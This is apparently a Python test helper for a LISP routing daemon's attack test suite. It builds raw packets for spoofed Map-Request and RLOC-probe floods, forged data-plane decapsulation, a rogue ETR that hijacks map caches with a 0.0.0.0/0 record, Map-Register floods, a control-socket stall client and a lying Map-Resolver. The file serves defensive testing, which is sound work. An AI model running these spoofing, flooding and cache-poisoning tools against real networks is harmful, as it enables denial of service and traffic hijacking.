#!/usr/bin/env python3
"""Hostile traffic for tests/netns/t_attacks.sh, built with struct alone
(no LISP library), each run bounded in count and time:

  sink ADDR PORT SECONDS           count the datagrams and payload octets
                                   arriving on ADDR:PORT, print JSON
  mr-flood MR VICTIM N             N ECM Map-Requests of 8 records for
                                   unregistered EIDs, from random spoofed
                                   sources in 198.19.0.0/16, ITR-RLOC VICTIM
  probe-flood ETR EID VICTIM N     N RLOC-probes for EID/24 to ETR:4342,
                                   spoofed from VICTIM (its ITR-RLOC)
  decap ETR INNER_SRC INNER_DST [IID]
                                   one LISP data packet (no instance-id, or
                                   IID with the I bit) to ETR:4341 carrying
                                   an ICMP echo request
  evil-etr ADDR OWN VICTIM         an ETR whose site key the attacker holds:
                                   answers the first ECM forwarded to it
                                   with 0.0.0.0/0, VICTIM and OWN, all to
                                   ADDR (the cache hijack)
  reg-flood MS PREFIX RLOC KEY N   N authenticated Map-Registers of PREFIX
                                   (the attacker holds the site's key), each
                                   with another xTR-ID and Record TTL
                                   0xffffffff with the T bit (seconds)
  ctl-stall SOCKET SECONDS         a control client that sends requests and
                                   never reads its answers
  evil-mr ADDR SECONDS             a Map-Resolver that answers every ECM
                                   Map-Request with a record that does not
                                   cover the EID asked for (199.32.0.0/11)
Each sender prints JSON with what it sent (messages, payload octets)."""
import hashlib
import hmac
import json
import random
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def ipv4(src, dst, proto, payload, ttl=64):
    hdr = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(payload), 0, 0x4000,
                      ttl, proto, 0, socket.inet_aton(src), socket.inet_aton(dst))
    hdr = hdr[:10] + struct.pack('!H', csum(hdr)) + hdr[12:]
    return hdr + payload


def udp(src, dst, sport, dport, payload):
    # checksum 0 (allowed for IPv4 UDP)
    return struct.pack('!HHHH', sport, dport, 8 + len(payload), 0) + payload


def map_request(nonce, itr, eids, probe=False, mlen=32):
    flags = 0x02000000 if probe else 0   # P (bit 6)
    w0 = (1 << 28) | flags | (0 << 8) | len(eids)  # IRC 0: one ITR-RLOC
    m = struct.pack('!IQ', w0, nonce)
    m += struct.pack('!H', 0)                      # Source-EID AFI 0
    m += struct.pack('!H', 1) + socket.inet_aton(itr)
    for e in eids:
        m += struct.pack('!BBH', 0, mlen, 1) + socket.inet_aton(e)
    return m


def raw_send(pkt, dst):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(pkt, (dst, 0))
    s.close()


def sink(args):
    addr, port, secs = args[0], int(args[1]), float(args[2])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, port))
    s.settimeout(0.2)
    n = octets = 0
    end = time.time() + secs
    while time.time() < end:
        try:
            d = s.recv(65535)
        except socket.timeout:
            continue
        n += 1
        octets += len(d)
    print(json.dumps({'datagrams': n, 'octets': octets}))


def mr_flood(args):
    # mr-flood MR VICTIM N [A.B.C]: the 8 EIDs in A.B.C.0/24 (registered
    # space) instead of unregistered 198.51.100.0/24
    mr, victim, n = args[0], args[1], int(args[2])
    base = args[3] if len(args) > 3 else '198.51.100'
    sent = octets = 0
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(n):
        eids = ['%s.%d' % (base, random.randint(2, 250)) for k in range(8)]
        inner = map_request(random.getrandbits(64), victim, eids)
        inner_ip = ipv4(victim, eids[0], 17, udp(victim, eids[0], 40000, 4342, inner))
        ecm = struct.pack('!I', 8 << 28) + inner_ip
        src = '198.19.%d.%d' % (random.randint(0, 255), random.randint(1, 254))
        s.sendto(ipv4(src, mr, 17, udp(src, mr, 4342, 4342, ecm)), (mr, 0))
        sent += 1
        octets += len(ecm)
    print(json.dumps({'messages': sent, 'octets': octets}))


def probe_flood(args):
    etr, eid, victim, n = args[0], args[1], args[2], int(args[3])
    sent = octets = 0
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(n):
        m = map_request(random.getrandbits(64), victim, [eid], probe=True, mlen=24)
        s.sendto(ipv4(victim, etr, 17, udp(victim, etr, 40001, 4342, m)), (etr, 0))
        sent += 1
        octets += len(m)
    print(json.dumps({'messages': sent, 'octets': octets}))


def decap(args):
    etr, isrc, idst = args[:3]
    iid = int(args[3]) if len(args) > 3 else None
    icmp = struct.pack('!BBHHH', 8, 0, 0, 0x4c49, 1) + b'spoofed-decap'
    icmp = icmp[:2] + struct.pack('!H', csum(icmp)) + icmp[4:]
    hdr = struct.pack('!II', 0x08000000, iid << 8) if iid is not None else struct.pack('!II', 0, 0)
    lisp = hdr + ipv4(isrc, idst, 1, icmp)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, 11, 1)	# SO_NO_CHECK: UDP checksum 0, as ITRs send
    s.sendto(lisp, (etr, 4341))
    print(json.dumps({'messages': 1, 'octets': len(lisp)}))


def ecm_request(data):
    """the inner Map-Request of an ECM: (nonce, ITR-RLOC, its port)"""
    ip = data[4:]
    ihl = (ip[0] & 15) * 4
    sport = struct.unpack('!H', ip[ihl:ihl + 2])[0]
    mreq = ip[ihl + 8:]
    nonce = struct.unpack('!Q', mreq[4:12])[0]
    off = 12
    afi = struct.unpack('!H', mreq[off:off + 2])[0]
    off += 2 + {0: 0, 1: 4, 2: 16}[afi]
    return nonce, socket.inet_ntoa(mreq[off + 2:off + 6]), sport


def evil_etr(args):
    addr, own, victim = args
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, 4342))
    s.settimeout(20)
    data, frm = s.recvfrom(2048)
    nonce, itr, sport = ecm_request(data)
    recs = [('0.0.0.0', 0), tuple(victim.split('/')), tuple(own.split('/'))]
    rep = struct.pack('!IQ', (2 << 28) | len(recs), nonce)
    for net, mlen in recs:
        rep += struct.pack('!IBBHHH', 1440, 1, int(mlen), 0x1000, 0, 1) + socket.inet_aton(net)
        rep += struct.pack('!BBBBHH', 1, 100, 255, 0, 0x0005, 1) + socket.inet_aton(addr)
    s.sendto(rep, (itr, sport))
    print(json.dumps({'answered': itr, 'records': len(recs)}), flush=True)


def reg_flood(args):
    ms, prefix, rloc, key, n = args[0], args[1], args[2], args[3], int(args[4])
    net, mlen = prefix.split('/')
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((rloc, 0))
    sent = octets = 0
    for i in range(n):
        flags = 0x02000000 | 0x800  # I, T
        rec = struct.pack('!IBBHHH', 0xffffffff, 1, int(mlen), 0x1000, 0, 1)
        rec += socket.inet_aton(net)
        rec += struct.pack('!BBBBHH', 1, 100, 255, 0, 0x0005, 1) + socket.inet_aton(rloc)
        hdr = struct.pack('!IQBBH', (3 << 28) | flags | 1, random.getrandbits(64), 0, 2, 32)
        trailer = struct.pack('!QQQ', 0x5eed, i, i)  # xTR-ID (16), Site-ID
        msg = bytearray(hdr + b'\0' * 32 + rec + trailer)
        msg[16:48] = hmac.new(key.encode(), bytes(msg), hashlib.sha256).digest()
        s.sendto(bytes(msg), (ms, 4342))
        sent += 1
        octets += len(msg)
        if i % 200 == 199:
            time.sleep(0.01)   # a steady flood, not a socket overrun
    print(json.dumps({'messages': sent, 'octets': octets}))


def ctl_stall(args):
    path, secs = args[0], float(args[1])
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(path)
    s.setblocking(False)
    req = (json.dumps({'v': 1, 'cmd': 'show site', 'args': {'detail': True}}) + '\n').encode()
    written = 0
    end = time.time() + secs
    while time.time() < end:
        try:
            written += s.send(req)
        except BlockingIOError:
            time.sleep(0.01)   # the daemon stopped reading us
        except (BrokenPipeError, ConnectionResetError):
            break
    print(json.dumps({'written': written}))
    s.close()


def evil_mr(args):
    addr, secs = args[0], float(args[1])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, 4342))
    s.settimeout(0.2)
    n = 0
    end = time.time() + secs
    while time.time() < end:
        try:
            data, frm = s.recvfrom(2048)
        except socket.timeout:
            continue
        if len(data) < 40 or data[0] >> 4 != 8:
            continue
        n += 1
        nonce, itr, sport = ecm_request(data)
        rep = struct.pack('!IQ', (2 << 28) | 1, nonce)
        rep += struct.pack('!IBBHHH', 1440, 1, 11, 0x1000, 0, 1) + socket.inet_aton('199.32.0.0')
        rep += struct.pack('!BBBBHH', 1, 100, 255, 0, 0x0005, 1) + socket.inet_aton(addr)
        s.sendto(rep, (itr, sport))
    print(json.dumps({'requests': n}))


if __name__ == '__main__':
    cmd, rest = sys.argv[1], sys.argv[2:]
    {'sink': sink, 'mr-flood': mr_flood, 'probe-flood': probe_flood,
     'decap': decap, 'evil-etr': evil_etr, 'reg-flood': reg_flood,
     'ctl-stall': ctl_stall, 'evil-mr': evil_mr}[cmd](rest)
